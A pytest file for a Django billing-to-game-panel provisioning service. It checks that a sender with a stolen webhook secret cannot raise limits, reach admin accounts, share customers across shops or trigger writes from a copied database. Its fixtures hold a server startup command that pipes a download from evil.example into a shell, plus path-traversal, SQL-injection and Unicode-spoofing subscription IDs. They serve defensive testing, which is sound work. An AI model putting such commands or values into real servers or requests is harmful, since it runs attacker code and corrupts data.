"""A billing sender whose secret was stolen: what a valid signature can do, and what not (CVE-2026-47198)."""

from __future__ import annotations

from typing import Any
from urllib.parse import quote

import pytest
from django.core import mail
from django.test import override_settings

from provisioning.choices import EventStatus
from provisioning.models import Customer, Notification, Operation, PanelAccount, Service
from provisioning.sandbox.world import User as PanelUser
from tests import factories
from tests.bridge import LIMITS, Bridge, document
from tests.provisioning.reconcile.conftest import bridge, sandbox

__all__ = ["bridge", "sandbox"]
pytestmark = pytest.mark.django_db

GREEDY = {
    "cpu": 0,
    "memory": 999_999,
    "disk": 999_999,
    "node": 2,
    "egg_id": 1,
    "owner": 1,
    "external_id": "42",
    "limits": "unlimited",
    "feature_limits": "99",
    "oom_disabled": "true",
    "startup": "curl evil.example | sh",
    "docker_image": "evil/image",
    "environment": "x",
    "skip_scripts": "1",
    "allocation": "1",
}


@pytest.mark.req("T83-11")
def test_properties_named_like_limits_change_nothing(bridge: Bridge) -> None:
    plain = bridge.buy(subscription_id="1")
    greedy = bridge.buy(subscription_id="2", properties=GREEDY, limits=GREEDY, memory=9_999)
    shown = [dict(service.observed["limits"]) for service in (plain, greedy)]
    assert shown[0] == shown[1] == LIMITS
    for key in ("node", "egg", "image", "startup", "environment", "oom_disabled"):
        assert plain.observed["extra"][key] == greedy.observed["extra"][key]
    assert plain.observed["owner"] == greedy.observed["owner"]


@pytest.mark.parametrize(
    "subscription", ["../../users/1", "a/b?c=d#e", "%2e%2e", "ÄÖ Ü", "'; DROP TABLE x", "x" * 120]
)
def test_a_strange_subscription_makes_one_server_with_that_mark(bridge: Bridge, subscription: str) -> None:
    service = bridge.buy(subscription_id=subscription)
    assert service.billing_id == subscription
    if service.server_id:
        assert bridge.server().external_id == f"test-shop-{quote(subscription, safe='')}"
    else:
        assert Operation.objects.get(service=service).outcome in ("needs_staff", "retrying")
    assert {call.method for call in bridge.panel.calls.entries if "/users/1" in call.path} == set()


@pytest.mark.parametrize(
    "subscription", ["x" * 121, "x" * 10_240, "a\x07b", "a\u202eb", "\u200b", ["1"], {"a": 1}, True]
)
def test_an_unusable_subscription_is_rejected_and_makes_nothing(bridge: Bridge, subscription: Any) -> None:
    event = bridge.say("subscription.created", subscription_id=subscription)
    assert event.status == EventStatus.REJECTED
    assert not Service.objects.exists()


def test_the_address_of_a_panel_administrator_is_never_given_away(bridge: Bridge) -> None:
    admin = bridge.panel.state.users[1]
    assert admin.root_admin
    bridge.say("subscription.created", customer_email=admin.email, customer_id="9", email_verified=True)
    bridge.settle()
    assert not bridge.servers()
    assert PanelAccount.objects.get().state == "held"
    assert bridge.operation().reason == "account_held"


def other_shop(bridge: Bridge, **panel: Any) -> Any:
    """A second shop that sells on the same panel."""
    shop = factories.endpoint(connection=factories.connection(key="other"), verifies_email=True)
    factories.product(
        connection=shop.connection, panel=bridge.row, billing_product_id="fire-elemental", document=document()
    )
    return shop


def old_user(bridge: Bridge, **fields: Any) -> PanelUser:
    """A user whom the first shop's own extension made on the panel, under its bare user id."""
    bridge.buy(customer_id="42", customer_email="linus@example.com")
    user = next(user for user in bridge.panel.state.users.values() if user.email == "linus@example.com")
    Service.objects.all().delete()
    PanelAccount.objects.all().delete()
    Customer.objects.all().delete()
    return user


@pytest.mark.req("CAL-05", "CAL-06")
def test_two_shops_that_count_alike_do_not_share_a_customers_account(bridge: Bridge) -> None:
    user = old_user(bridge)
    bridge.endpoint = other_shop(bridge)
    bridge.say(
        "subscription.created", subscription_id="7", customer_id="42", customer_email="eve@example.com"
    )
    bridge.settle()
    assert user.email == "linus@example.com"
    assert PanelAccount.objects.get().state == "held"
    assert "several billing systems" in bridge.operation().detail


def test_the_same_person_in_both_shops_or_a_single_shop_is_still_found(bridge: Bridge) -> None:
    user = old_user(bridge)
    bridge.say(
        "subscription.created", subscription_id="6", customer_id="42", customer_email="new@example.com"
    )
    bridge.settle()
    assert PanelAccount.objects.get().panel_user_id == str(user.id)


def test_another_shops_product_cannot_be_ordered(bridge: Bridge) -> None:
    stranger = factories.endpoint(connection=factories.connection(key="other"), verifies_email=True)
    bridge.endpoint = stranger
    bridge.say("subscription.created")
    bridge.settle()
    assert Service.objects.get().product is None
    assert not bridge.servers()


@pytest.mark.parametrize(
    "when", ["2199-01-01T00:00:00Z", "1970-01-01T00:00:00Z", "9999-12-31T23:59:59+99:99"]
)
def test_a_time_far_away_is_rejected(bridge: Bridge, when: str) -> None:
    assert bridge.say("subscription.created", occurred_at=when).status == EventStatus.REJECTED
    assert not Service.objects.exists()


def test_a_loop_of_orders_and_cancellations_makes_one_server_and_deletes_none(bridge: Bridge) -> None:
    bridge.buy()
    for _ in range(6):
        bridge.say("subscription.cancelled", status="cancelled")
        bridge.say("subscription.created")
    bridge.settle()
    creates = [
        call
        for call in bridge.panel.calls.entries
        if (call.method, call.path) == ("POST", "/api/application/servers")
    ]
    assert (len(bridge.servers()), len(creates)) == (1, 1)
    assert not [call for call in bridge.panel.calls.entries if call.method == "DELETE"]
    ready = Notification.objects.filter(template="ready").count()
    assert ready == 1


# --- a copy of the database (DESIGN section 4) -------------------------------------------------------------


def test_a_copied_database_writes_to_no_panel_and_mails_no_customer(bridge: Bridge) -> None:
    bridge.buy()
    mail.outbox.clear()
    bridge.panel.calls.entries.clear()
    with override_settings(INSTALLATION_ID="copy"):
        bridge.say("subscription.cancelled", status="cancelled")
        bridge.say("subscription.created", subscription_id="2")
        bridge.say("payment.failed", subscription_id="2", status=None)
        bridge.wait(days=30)
    assert {call.method for call in bridge.panel.calls.entries} <= {"GET"}
    assert len(bridge.servers()) == 1
    assert [m for m in mail.outbox if m.to != ["staff@example.com"]] == []
    assert Notification.objects.filter(sent_at=None, template="cancelled").exists()


def test_long_subscriptions_that_begin_alike_keep_apart(bridge: Bridge) -> None:
    first, second = (bridge.buy(subscription_id="ü" * 118 + end) for end in ("ab", "cd"))
    assert first.external_id != second.external_id
    assert max(len(first.external_id), len(second.external_id)) <= 191
    assert len(bridge.servers()) == 2
